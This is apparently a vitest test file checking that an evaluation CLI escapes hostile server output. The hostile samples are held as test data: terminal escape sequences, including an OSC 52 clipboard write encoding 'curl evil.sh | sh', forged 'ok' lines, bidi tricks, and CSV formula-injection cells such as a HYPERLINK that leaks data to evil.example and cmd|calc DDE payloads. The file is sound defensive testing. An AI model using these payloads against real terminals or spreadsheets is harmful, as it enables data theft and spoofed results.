/**
 * What a hostile or broken server can send, and what the CLI must still do with it (run as users run it: the
 * built bin against a loopback server):
 * - its text never reaches a terminal or a CI log raw: escape sequences, control characters and invisible
 *   bidirectional overrides are shown escaped, in every format and in error messages;
 * - CSV cells a spreadsheet would run as a formula are neutralised with a leading `'`;
 * - a `content_type` of `__proto__` is counted like any other type, and pollutes nothing;
 * - a body the SDK accepts is printable in every format, even with a 100,000-deep nested unknown field.
 * The server here is a plain node:http one that writes JSON text by hand, so it can send what a JSON
 * serializer could not (a 100,000-deep value).
 */
import { parse as parseCSV } from 'csv-parse/sync';
import { parse as parseJUnit } from 'junit2json';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureBuiltBeforeAll, runCLI, type Run } from './cli-harness.js';
import { startServer, type TestServer } from './helpers/server.js';

ensureBuiltBeforeAll();

const KEY = 'sk-hostile-SECRET-777';

// --- the hostile text ------------------------------------------------------------------------------------------

/** An OSC 52 clipboard write, a cursor-up-and-erase, a fake green "ok" line after a carriage return, C1 CSI, bidi override, BEL, backspace. */
const OSC52 = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const FAKE_OK = '\r\u001b[2K\u001b[32mok: pass rate 100.0% is at or above 90.0%\u001b[0m';
const NEWLINE_OK = '\nok: pass rate 100.0% is at or above 90.0%';
const C1 = '\u009b31mred';
const BIDI = 'safe\u202eexe.txt\u202c';
const HOSTILE = `${OSC52}${FAKE_OK}${NEWLINE_OK}\u0007\b${C1}${BIDI}\u2028`;

/**
 * Characters that must never be raw in what the CLI prints: C0 controls other than tab and line feed, a
 * carriage return not ending a CRLF line, DEL, C1 controls, bidi and zero-width marks, line separators, BOM.
 */
// eslint-disable-next-line no-control-regex -- finding raw control characters is the point
const RAW_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]|\r(?!\n)/u;

function expectClean(text: string, where: string): void {
  const found = RAW_CONTROL.exec(text);
  expect(
    found
      ? {
          where,
          at: found.index,
          char: `U+${(found[0].codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`,
          near: JSON.stringify(text.slice(Math.max(0, found.index - 40), found.index + 10)),
        }
      : null,
  ).toBeNull();
  // No line of output was forged by the server.
  // eslint-disable-next-line no-control-regex -- an escape sequence before a forged line
  expect({ where, forged: /^(\s|\u001b\[[\d;]*[A-Za-z])*ok: pass rate 100\.0%/m.test(text) }).toEqual({ where, forged: false });
}

// --- a server writing JSON text by hand ---------------------------------------------------------------------------

interface RawRun {
  /** Each response as JSON text. */
  items: string[];
  /** An error answer instead of pages: status and the envelope's JSON text. */
  error?: { status: number; body: string };
}

/** The run route (finished) and the responses route (limit and offset honoured), from JSON texts. */
async function serve(runs: Record<string, RawRun>): Promise<TestServer> {
  return startServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    const match = /^\/v2\/eval-runs\/([^/]+)(\/responses)?$/.exec(url.pathname);
    const run = match ? runs[decodeURIComponent(match[1] as string)] : undefined;
    const send = (status: number, text: string) => {
      res.writeHead(status, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) });
      res.end(text);
    };
    if (!match || !run) return send(404, '{"error":{"code":"resource.not_found","message":"no such run"},"request_id":"req_404"}');
    if (run.error) return send(run.error.status, run.error.body);
    if (!match[2]) {
      const id = JSON.stringify(match[1]);
      return send(
        200,
        `{"eval_run_uuid":${id},"eval_uuid":"e","status":"finished","created_at":"2026-01-01T00:00:00Z","updated_at":"2026-01-01T00:00:00Z","num_prompts":${run.items.length},"num_responses_scored":${run.items.length}}`,
      );
    }
    const limit = Number(url.searchParams.get('limit') ?? 100);
    const offset = Number(url.searchParams.get('offset') ?? 0);
    send(200, `{"items":[${run.items.slice(offset, offset + limit).join(',')}],"count":${run.items.length}}`);
  });
}

const json = (value: unknown) => JSON.stringify(value);

const HOSTILE_ITEMS = [
  json({ prompt_uuid: `p-osc${OSC52}`, content: `content ${HOSTILE}`, explanation: `explanation ${HOSTILE}`, is_passed: false, content_type: `text${C1}` }),
  json({
    prompt_uuid: 'p-fake',
    content: FAKE_OK,
    explanation: NEWLINE_OK,
    is_passed: false,
    thread_uuid: BIDI,
    next_prompt: { prompt_uuid: `n${OSC52}`, content: 'x' },
  }),
  json({ prompt_uuid: 'p-ok', content: 'fine', explanation: 'fine', is_passed: true }),
];

/** Each cell a spreadsheet would run as a formula, in a different column. */
const FORMULAS = {
  explanation: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  content: "+cmd|' /C calc'!A0",
  prompt_uuid: "@SUM(1+1)*cmd|' /C calc'!A0",
  content_type: "-2+3+cmd|' /C calc'!A0",
  thread_uuid: '\t=1+1',
  response_uuid: '\r=1+1',
} as const;
const FORMULA_ITEMS = [
  json({ ...FORMULAS, is_passed: false }),
  json({ prompt_uuid: 'plain', content: 'a - b = c', explanation: 'no formula here', is_passed: true }),
];

const PROTO_ITEMS = [
  '{"prompt_uuid":"a","content_type":"__proto__","is_passed":true}',
  '{"prompt_uuid":"b","content_type":"__proto__","is_passed":false,"explanation":"bad"}',
  '{"prompt_uuid":"c","content_type":"constructor","is_passed":true}',
  '{"prompt_uuid":"d","content_type":"toString","is_passed":null}',
  '{"prompt_uuid":"e","content_type":"text","is_passed":true}',
];

const DEPTH = 100_000;
const DEEP = `${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`;
const DEEP_OBJECT = `${'{"a":'.repeat(DEPTH)}1${'}'.repeat(DEPTH)}`;
const DEEP_ITEMS = [
  `{"prompt_uuid":"deep-1","is_passed":false,"explanation":"deep failure","unknown_field":${DEEP}}`,
  `{"prompt_uuid":"deep-2","is_passed":true,"next_prompt":{"prompt_uuid":"n-2","content":"c","extra":${DEEP_OBJECT}}}`,
  '{"prompt_uuid":"deep-3","is_passed":true}',
];

let server: TestServer;
const printed: string[] = [];

async function cli(args: readonly string[], env: Record<string, string | undefined> = {}): Promise<Run> {
  const run = await runCLI(args, { key: KEY, baseURL: server.url, env });
  printed.push(run.stdout, run.stderr);
  return run;
}

beforeAll(async () => {
  server = await serve({
    hostile: { items: HOSTILE_ITEMS },
    formulas: { items: FORMULA_ITEMS },
    proto: { items: PROTO_ITEMS },
    deep: { items: DEEP_ITEMS },
    'api-error': {
      items: [],
      error: {
        status: 400,
        body: json({ error: { code: `validation.invalid_request${OSC52}`, message: `bad request${FAKE_OK}${NEWLINE_OK}` }, request_id: `req${OSC52}` }),
      },
    },
  });
});

afterAll(async () => {
  await server.close();
});

// --- 1. escapes ----------------------------------------------------------------------------------------------------

describe("the server's text is shown escaped, never raw", () => {
  it('in every format of responses, summary and compare, on stdout and stderr', async () => {
    const runs: [string, string[]][] = [
      ['responses table', ['responses', 'hostile']],
      ['responses csv', ['responses', 'hostile', '--format', 'csv']],
      ['responses json', ['responses', 'hostile', '--format', 'json']],
      ['responses ndjson', ['responses', 'hostile', '--format', 'ndjson']],
      ['responses junit', ['responses', 'hostile', '--format', 'junit']],
      ['summary table', ['summary', 'hostile', '--fail-under', '0.9']],
      ['summary json', ['summary', 'hostile', '--format', 'json']],
      ['summary markdown', ['summary', 'hostile', '--format', 'markdown']],
      ['compare table', ['compare', 'hostile', 'formulas', '--fail-on-regression']],
      ['compare json', ['compare', 'formulas', 'hostile', '--format', 'json', '--max-drop', '0']],
      ['compare markdown', ['compare', 'hostile', 'formulas', '--format', 'markdown']],
      ['compare junit', ['compare', 'formulas', 'hostile', '--format', 'junit', '--alpha', '0.5']],
    ];
    const results = await Promise.all(runs.map(([, args]) => cli(args, { GITHUB_ACTIONS: 'true' })));
    runs.forEach(([name], i) => {
      const run = results[i] as Run;
      expect({ name, code: run.code }).toEqual({ name, code: name.startsWith('compare') || name === 'summary table' ? 1 : 0 });
      expectClean(run.stdout, `${name}: stdout`);
      expectClean(run.stderr, `${name}: stderr`);
    });
    // The text is there, escaped, not dropped.
    const [table, csv, jsonOut, ndjson, junit, summary] = results as Run[];
    expect(table?.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
    expect(table?.stdout).toContain('text\\x9b31mred');
    expect(summary?.stdout).toContain('text\\x9b31mred');
    expect((parseCSV(csv?.stdout ?? '') as string[][])[1]?.[9]).toContain(
      'explanation \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\r\\x1b[2K\\x1b[32mok: pass rate',
    );
    // JSON stays lossless: the escapes are JSON's own, so it parses back to the very strings the server sent.
    const items = JSON.parse(jsonOut?.stdout ?? '') as { explanation: string; thread_uuid: string | null }[];
    expect(items[0]?.explanation).toBe(`explanation ${HOSTILE}`);
    expect(items[1]?.thread_uuid).toBe(BIDI);
    expect((JSON.parse(ndjson?.stdout.split('\n')[0] ?? '') as { content: string }).content).toBe(`content ${HOSTILE}`);
    expect(junit?.stdout).toContain('explanation \\x1b]52;c;');
  });

  it('in the GitHub job summary and the ::error annotations, which no server text can end or forge', async () => {
    const { mkdtemp, readFile, rm } = await import('node:fs/promises');
    const { join } = await import('node:path');
    const { tmpdir } = await import('node:os');
    const dir = await mkdtemp(join(tmpdir(), 'aymara-hostile-'));
    try {
      const file = join(dir, 'summary.md');
      const run = await cli(['compare', 'formulas', 'hostile'], { GITHUB_ACTIONS: 'true', GITHUB_STEP_SUMMARY: file });
      expect(run.code).toBe(1);
      const md = await readFile(file, 'utf8');
      expectClean(md, 'job summary');
      expect(md).not.toMatch(/<(?!details>|\/details>|summary>|\/summary>)/); // no HTML but the report's own
      const annotations = run.stderr.split('\n').filter((line) => line.startsWith('::'));
      expect(annotations.length).toBeGreaterThan(0);
      for (const line of annotations) {
        // One command per line, its data with %, CR and LF encoded as GitHub's runner expects.
        expect(line).toMatch(/^::error title=[^:,\n]*::[^\n]*$/);
        expect(line).not.toContain('\r');
      }
      // Nothing in stderr is a workflow command but the annotations themselves.
      expect(run.stderr.split('\n').filter((line) => line.includes('::') && !line.startsWith('::error title='))).toEqual([]);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('in error messages: the code, the message and the request id of an API error', async () => {
    const run = await cli(['summary', 'api-error']);
    expect(run.code).toBe(3);
    expectClean(run.stderr, 'API error');
    expect(run.stderr.split('\n').filter(Boolean)).toHaveLength(1);
    expect(run.stderr).toContain('\\x1b]52;c;');
    expect(run.stderr).toContain('\\r\\x1b[2K\\x1b[32mok: pass rate 100.0%');
  });
});

// --- 2. CSV formula cells ---------------------------------------------------------------------------------------------

describe('CSV cells a spreadsheet would run as a formula', () => {
  it("get a leading ' in every column (=, +, -, @, tab, CR), and other cells are left alone", async () => {
    const run = await cli(['responses', 'formulas', '--format', 'csv']);
    expect(run.code).toBe(0);
    const [header, row, plain] = parseCSV(run.stdout) as string[][];
    const cell = (column: string) => row?.[header?.indexOf(column) ?? -1];
    expect(cell('explanation')).toBe(`'${FORMULAS.explanation}`);
    expect(cell('content')).toBe(`'${FORMULAS.content}`);
    expect(cell('prompt_uuid')).toBe(`'${FORMULAS.prompt_uuid}`);
    expect(cell('content_type')).toBe(`'${FORMULAS.content_type}`);
    // A leading tab or CR is a formula start too; like every control character it is then shown escaped.
    expect(cell('thread_uuid')).toBe("'\\t=1+1");
    expect(cell('response_uuid')).toBe("'\\r=1+1");
    for (const value of row ?? []) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    expect(plain).toEqual(['plain', '', '1', 'false', 'a - b = c', 'text', 'false', 'false', '', 'no formula here', '', 'true', '', '', '']);
  });
});

// --- 3. __proto__ as a content type ----------------------------------------------------------------------------------

describe('a content_type of __proto__', () => {
  it('is counted in the breakdown like any type, the types adding up to the total (json, table, markdown)', async () => {
    const [jsonRun, table, markdown] = await Promise.all([
      cli(['summary', 'proto', '--format', 'json']),
      cli(['summary', 'proto']),
      cli(['summary', 'proto', '--format', 'markdown']),
    ]);
    expect(jsonRun.code).toBe(0);
    const summary = JSON.parse(jsonRun.stdout) as {
      total: number;
      pass_rate: number;
      by_content_type: Record<string, { total: number; passed: number; failed: number; unscored: number; pass_rate: number | null }>;
    };
    expect(summary).toMatchObject({ total: 5, passed: 3, failed: 1, unscored: 1, pass_rate: 0.75 });
    const byType = summary.by_content_type;
    expect(Object.keys(byType)).toEqual(['__proto__', 'constructor', 'toString', 'text']);
    expect(Object.getOwnPropertyDescriptor(byType, '__proto__')?.value).toMatchObject({ total: 2, passed: 1, failed: 1, pass_rate: 0.5 });
    expect(Object.getOwnPropertyDescriptor(byType, 'constructor')?.value).toMatchObject({ total: 1, passed: 1, pass_rate: 1 });
    expect(Object.getOwnPropertyDescriptor(byType, 'toString')?.value).toMatchObject({ total: 1, unscored: 1, pass_rate: null });
    expect(Object.values(byType).reduce((n, c) => n + c.total, 0)).toBe(5);
    expect(table.code).toBe(0);
    expect(table.stdout).toMatch(/__proto__\s*│\s*2\s*│\s*1\s*│\s*1\b/);
    expect(table.stdout).not.toContain('NaN');
    expect(markdown.code).toBe(0);
    expect(markdown.stdout).toContain('| `__proto__` | 2 | 1 | 1 | 0 | 0 | 0 | 50.0% |');
  });
});

// --- 4. a 100,000-deep nested field -----------------------------------------------------------------------------------

describe('a response with a 100,000-deep nested unknown field', () => {
  it('prints in every format of every command (exit 0, never 70), the deep value written out whole', async () => {
    const runs: [string, string[], number][] = [
      ['responses ndjson', ['responses', 'deep', '--format', 'ndjson'], 0],
      ['responses json', ['responses', 'deep', '--format', 'json'], 0],
      ['responses csv', ['responses', 'deep', '--format', 'csv'], 0],
      ['responses table', ['responses', 'deep'], 0],
      ['responses junit', ['responses', 'deep', '--format', 'junit'], 0],
      ['summary table', ['summary', 'deep'], 0],
      ['summary json', ['summary', 'deep', '--format', 'json'], 0],
      ['summary markdown', ['summary', 'deep', '--format', 'markdown'], 0],
      ['compare table', ['compare', 'deep', 'deep', '--fail-on-regression', '--quiet'], 0],
      ['compare json', ['compare', 'deep', 'deep', '--format', 'json'], 0],
      ['compare markdown', ['compare', 'deep', 'deep', '--format', 'markdown'], 0],
      ['compare junit', ['compare', 'deep', 'deep', '--format', 'junit'], 0],
    ];
    const results: Run[] = [];
    // Two at a time: each child parses 1.2 MB of nesting.
    for (let i = 0; i < runs.length; i += 2) results.push(...(await Promise.all(runs.slice(i, i + 2).map(([, args]) => cli(args)))));
    runs.forEach(([name, , code], i) => {
      const run = results[i] as Run;
      // This server serves runs only: summary and compare warn that the eval and its prompts could not be read.
      const stderr = run.stderr.replace(/^warning: the (eval|prompts) of eval e could not be read .*\n/gm, '');
      expect({ name, code: run.code, stderr: stderr.slice(0, 300) }).toEqual({ name, code, stderr: '' });
    });
    const [ndjson, jsonRun, csv, table, junit] = results as [Run, Run, Run, Run, Run];
    const lines = ndjson.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(3);
    // The deep values are written out whole, as the server sent them.
    expect(lines[0]).toContain(`"unknown_field":${DEEP}`);
    expect(lines[1]).toContain(`"extra":${DEEP_OBJECT}`);
    expect((JSON.parse(lines[0] as string) as { prompt_uuid: string }).prompt_uuid).toBe('deep-1');
    expect((JSON.parse(jsonRun.stdout) as { prompt_uuid: string }[]).map((r) => r.prompt_uuid)).toEqual(['deep-1', 'deep-2', 'deep-3']);
    expect(jsonRun.stdout).toContain(`"unknown_field":${DEEP}`);
    expect((parseCSV(csv.stdout) as string[][]).map((row) => row[0])).toEqual(['prompt_uuid', 'deep-1', 'deep-2', 'deep-3']);
    expect(table.stdout).toContain('deep-1');
    const report = (await parseJUnit(junit.stdout)) as { tests?: number; failures?: number };
    expect({ tests: Number(report.tests), failures: Number(report.failures) }).toEqual({ tests: 3, failures: 1 });
  });
});

describe('the key in the output', () => {
  it('never appears on stdout or stderr in any run of this file', () => {
    expect(printed.length).toBeGreaterThan(20);
    expect(printed.filter((text) => text.includes(KEY))).toEqual([]);
  });
});
